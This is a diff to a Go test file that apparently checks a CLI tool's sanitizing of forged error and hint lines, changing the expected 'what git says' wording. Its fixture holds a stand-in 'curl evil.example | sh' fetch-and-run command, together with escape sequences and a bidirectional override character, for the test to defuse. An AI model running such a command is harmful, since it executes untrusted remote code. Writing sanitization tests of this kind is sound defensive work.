@@ -114,12 +114,12 @@ func TestHubsWordsForgeNoLines(t *testing.T) {
 	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
 	w := newWorld(t)
 	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "unreachable", Message: words, Fields: fail.Fields{"git": words}}
-	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: what git says: "+shown+"\n")
+	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: git says: "+shown+"\n")
 	var errs strings.Builder
 	e := &frame.Terminal{Streams: frame.Streams{Err: &errs}, System: frame.System{Getenv: func(string) string { return "" }}}
 	e.Notice(fail.Notice{Code: "unreachable/push", Text: words, Fields: fail.Fields{"git": words}})
 	e.Progress("%s", words)
-	check(t, "notice and talk", errs.String(), shown+"\nhint: what git says: "+shown+"\n"+shown+"\n")
+	check(t, "notice and talk", errs.String(), shown+"\nhint: git says: "+shown+"\n"+shown+"\n")
 }
 
 // writers are the files that hold a stream: each writes what has been sanitized,
